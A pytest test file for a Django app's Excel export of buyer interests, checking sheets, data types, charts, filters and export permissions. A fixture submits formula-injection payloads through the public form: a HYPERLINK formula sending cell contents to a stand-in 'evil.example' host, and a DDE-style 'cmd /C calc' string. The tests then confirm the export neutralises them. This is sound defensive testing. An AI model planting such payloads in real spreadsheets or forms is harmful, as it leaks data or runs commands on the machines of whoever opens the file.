"""The interest report workbook: sheets, types, formula safety, charts, filters, permission."""

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.contrib.auth.models import Permission, User
from django.core import mail
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from catalogue.models import Certification
from jobs.models import Job
from matching.models import Interest, Match
from tests.factories import make_category, make_exporter, make_offer
from tests.jobs.flow import exported, exported_by_action
from tests.matching.helpers import ahead, confirm_post, interest_post, link_in

pytestmark = pytest.mark.django_db
SHEETS = ["Report", "Interests", "By category", "By state", "By month", "Matches"]
HOSTILE = {
    "company_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "contact_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def interests(hs, client, committed):
    oil = make_category(name="Sunflower oil, refined", code="151219", slug="sunflower-oil")
    exporter = make_exporter(name="+Pavlodar Oil LLP", region="pavlodar")
    exporter.certifications.add(Certification.objects.create(code="halal", name="Halal"))
    make_offer(exporter=exporter, category=oil, capacity=20000, unit="t", incoterms="CIF FCA")
    make_category(name="Durum wheat", code="100119", slug="durum-wheat")
    line = {"category": "sunflower-oil", "product": "=1+1 refined oil", "quantity": "500.5",
            "unit": "t", "frequency": "monthly", "incoterm": "CIF", "port": "apapa",
            "timeframe": "-2+3", "target_price": "1150", "currency": "USD",
            "price_basis": "tonne", "specifications": "=HYPERLINK(\"x\") FFA 0.1%",
            "packaging": "drums", "pack_size": "200 l", "delivery_from": str(ahead(90)),
            "delivery_to": str(ahead(180))}  # fmt: skip
    committed(client.post, "/interest/", interest_post(line, **HOSTILE))
    committed(confirm_post, client, link_in(mail.outbox[0], "confirm"))
    wheat = {"category": "durum-wheat", "product": "Durum wheat", "quantity": "50", "unit": "t"}
    committed(client.post, "/interest/", interest_post(wheat, email="kano@mills.ng", state="KN"))
    return Interest.objects.order_by("pk")


def workbook(response):
    content = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(content)), content


def exporter_user(client, with_permission=True):
    user = User.objects.create_user("officer", password="pw", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_interest", "change_interest"])
    )
    if with_permission:
        user.user_permissions.add(Permission.objects.get(codename="export_reports"))
    client.force_login(user)
    return user


def test_export_respects_the_admin_filters_and_is_ready_to_hand_over(client, interests):
    exporter_user(client)
    _, response = exported(
        client, reverse("admin:matching_interest_export"), {"status__exact": "confirmed"}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="interests-')
    book, content = workbook(response)
    assert book.sheetnames == SHEETS
    rows = list(book["Interests"].iter_rows(values_only=True))
    assert rows[0][:4] == ("Reference", "Created", "Confirmed", "Status")
    assert len(rows) == 2  # the confirmed interest only, one product line
    confirmed = interests.get(status="confirmed")
    sheet = book["Interests"]
    assert sheet["A2"].value == confirmed.reference
    assert sheet["B2"].is_date and isinstance(sheet["B2"].value, dt.datetime)
    assert sheet["N2"].data_type == "n" and sheet["N2"].value == 500.5
    assert (sheet["M2"].value, sheet["M2"].data_type) == ("151219", "s")
    assert (sheet["J2"].value, sheet["J2"].data_type) == ("+2348031234567", "s")
    assert sheet["AB2"].value == "+Pavlodar Oil LLP" and sheet["AC2"].data_type == "n"
    assert "status: confirmed" in book["Report"]["B5"].value
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:AC2"


def by_title(sheet) -> list[dict]:
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def shown_at(cell: dt.datetime, moment: dt.datetime) -> bool:
    """The workbook shows this moment in Lagos time, without a zone (Excel keeps milliseconds)."""
    local = timezone.localtime(moment).replace(tzinfo=None)
    return abs(cell - local) < dt.timedelta(milliseconds=2)


def test_every_column_holds_what_its_title_says_for_a_known_interest(client, interests):
    exporter_user(client)
    book, _ = workbook(exported(client, reverse("admin:matching_interest_export"))[1])
    confirmed = interests.get(status="confirmed")
    match = Match.objects.get(line__interest=confirmed)
    (line,) = [row for row in by_title(book["Interests"]) if row["Status"] == "confirmed"]
    assert shown_at(line.pop("Created"), confirmed.created_at)
    assert shown_at(line.pop("Confirmed"), confirmed.confirmed_at)
    assert line == {
        "Reference": confirmed.reference,
        "Status": "confirmed",
        "Company": HOSTILE["company_name"],
        "CAC number": "RC1234567",
        "State": "Lagos",
        "Contact person": HOSTILE["contact_name"],
        "E-mail": "ada@lagosmills.ng",
        "Phone": "+2348031234567",
        "Product": "Sunflower oil, refined",
        "Buyer's words": "=1+1 refined oil",
        "HS code": "151219",
        "Quantity": 500.5,
        "Unit": "t",
        "Frequency": "monthly",
        "Incoterm": "CIF",
        "Destination port": "Lagos Port Complex (Apapa)",
        "Timeframe": "-2+3",
        "Delivery from": dt.datetime.combine(ahead(90), dt.time()),
        "Delivery by": dt.datetime.combine(ahead(180), dt.time()),
        "Target price": 1150,
        "Currency": "USD",
        "Price basis": "per tonne",
        "Specifications": '=HYPERLINK("x") FFA 0.1%',
        "Packaging": "in drums, 200 l",
        "On Nigeria's prohibition list": None,
        "Best-matched exporter": "+Pavlodar Oil LLP",
        "Match score": match.score,
    }
    (matched,) = by_title(book["Matches"])
    assert matched == {
        "Reference": confirmed.reference,
        "Product": "Sunflower oil, refined",
        "Exporter": "+Pavlodar Oil LLP",
        "Exporter's matching products": "Sunflower oil, refined",
        "On Nigeria's prohibition list": None,
        "Exporter region": "Pavlodar Region",
        "Score": match.score,
        "Reasons": "; ".join(match.shown_reasons()),
        "Status": "suggested",
        "Decided by": None,
        "Decided": None,
    }
    by_state = {row["State"]: row for row in by_title(book["By state"])}
    assert by_state["Lagos"] == {
        "State": "Lagos", "Product lines": 1, "Interests": 1, "Quantity (t)": 500.5
    }  # fmt: skip


def test_hostile_text_from_the_public_form_never_becomes_a_formula(client, interests):
    exporter_user(client)
    book, content = workbook(exported(client, reverse("admin:matching_interest_export"))[1])
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for value in [
        *HOSTILE.values(),
        "=1+1 refined oil",
        "-2+3",
        "+Pavlodar Oil LLP",
        "+2348031234567",
    ]:
        found = [c for c in cells if c.value == value]
        assert found, value
        assert all(c.data_type == "s" and c.quotePrefix for c in found)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets_xml = " ".join(
            archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")
        )
    assert "<f>" not in sheets_xml


def test_summary_sheets_have_native_charts(client, interests):
    exporter_user(client)
    book, content = workbook(exported(client, reverse("admin:matching_interest_export"))[1])
    by_category = list(book["By category"].iter_rows(values_only=True))
    assert by_category[0][:3] == ("Category", "Product lines", "Interests")
    assert ("Sunflower oil, refined", 1, 1, 500.5) in by_category
    states = {row[0]: row[1] for row in book["By state"].iter_rows(min_row=2, values_only=True)}
    assert states == {"Lagos": 1, "Kano": 1}
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 3


def test_matches_sheet_lists_exporters_with_reasons(client, interests):
    exporter_user(client)
    book, _ = workbook(exported(client, reverse("admin:matching_interest_export"))[1])
    rows = list(book["Matches"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == 1
    reference, product, exporter, products, flag, region, score, reasons, status, *_ = rows[0]
    assert (exporter, region, status) == ("+Pavlodar Oil LLP", "Pavlodar Region", "suggested")
    assert flag is None
    assert products == "Sunflower oil, refined"
    assert "Same HS code 1512.19" in reasons and "Offers CIF" in reasons


def test_the_export_action_takes_the_selection(client, interests):
    exporter_user(client)
    kano = interests.get(buyer__state="KN")
    _, response = exported_by_action(
        client,
        reverse("admin:matching_interest_changelist"),
        {"action": "export_selected", "_selected_action": [kano.pk]},
    )
    book, _ = workbook(response)
    rows = list(book["Interests"].iter_rows(min_row=2, values_only=True))
    assert [r[6] for r in rows] == ["Kano"]


def test_only_staff_allowed_to_export_see_and_use_it(client, interests):
    exporter_user(client, with_permission=False)
    listing = client.get(reverse("admin:matching_interest_changelist"))
    action_form = listing.context["action_form"]
    assert action_form is None or "export_selected" not in dict(
        action_form.fields["action"].choices
    )
    assert "Export these to Excel" not in listing.text
    assert client.get(reverse("admin:matching_interest_export")).status_code == 403
    assert client.post(reverse("admin:matching_interest_export")).status_code == 403
    job, response = exported_by_action(
        client,
        reverse("admin:matching_interest_changelist"),
        {"action": "export_selected", "_selected_action": [interests[0].pk]},
    )
    assert job is None and not Job.objects.exists()
    assert response.status_code != 200 or "xlsx" not in response.get("Content-Type", "")


def test_the_scheduled_command_filters_by_date_status_and_state(interests, tmp_path):
    out = tmp_path / "report.xlsx"
    today = dt.date.today().isoformat()
    call_command(
        "export_interests", str(out), "--since", today, "--state", "Kano", stdout=io.StringIO()
    )
    rows = list(openpyxl.load_workbook(out)["Interests"].iter_rows(min_row=2, values_only=True))
    assert [r[6] for r in rows] == ["Kano"]
    call_command("export_interests", str(out), "--status", "confirmed", stdout=io.StringIO())
    rows = list(openpyxl.load_workbook(out)["Interests"].iter_rows(min_row=2, values_only=True))
    assert [r[3] for r in rows] == ["confirmed"]
    call_command("export_interests", str(out), "--until", "2000-01-01", stdout=io.StringIO())
    assert openpyxl.load_workbook(out)["Interests"].max_row == 1


def test_the_command_explains_bad_arguments_and_makes_the_folder(interests, tmp_path):
    with pytest.raises(CommandError, match="'2026-13-45' is not a date; write it as YYYY-MM-DD"):
        call_command("export_interests", str(tmp_path / "r.xlsx"), "--since", "2026-13-45")
    with pytest.raises(CommandError, match="not a Nigerian state"):
        call_command("export_interests", str(tmp_path / "r.xlsx"), "--state", "Texas")
    out = tmp_path / "reports" / "2026" / "report.xlsx"
    call_command("export_interests", str(out), stdout=io.StringIO())
    assert openpyxl.load_workbook(out)["Interests"].max_row > 1


def test_the_dashboard_draws_escaped_charts(client, interests):
    exporter_user(client)
    page = client.get(reverse("admin:matching_interest_dashboard"))
    assert page.status_code == 200
    assert page.text.count('<svg xmlns="http://www.w3.org/2000/svg" width=') == 4
    assert "Sunflower oil, refined" in page.text and "Lagos" in page.text
    assert "<script" not in page.text.split("<svg", 1)[1]


def test_the_export_permission_alone_does_not_open_the_interests(client, interests):
    clerk = User.objects.create_user("clerk", password="pw", is_staff=True)
    clerk.user_permissions.add(Permission.objects.get(codename="export_reports"))
    client.force_login(clerk)
    assert client.get(reverse("admin:matching_interest_export")).status_code == 403
    assert "Export interests to Excel" not in client.get(reverse("admin:index")).text


@pytest.mark.parametrize(
    "query",
    ["foo=1", "created_at__gte=x", "created_at__year=-1", "assigned_to__id__exact=x",
     "lines__category__sector__id__exact=x", "p=-1", "p=99", "_changelist_filters=x"],
)  # fmt: skip
def test_the_export_answers_filters_it_cannot_apply_as_the_list_does(client, interests, query):
    exporter_user(client)
    response = client.get(reverse("admin:matching_interest_export") + "?" + query)
    assert response.status_code in (200, 302, 400), response.status_code
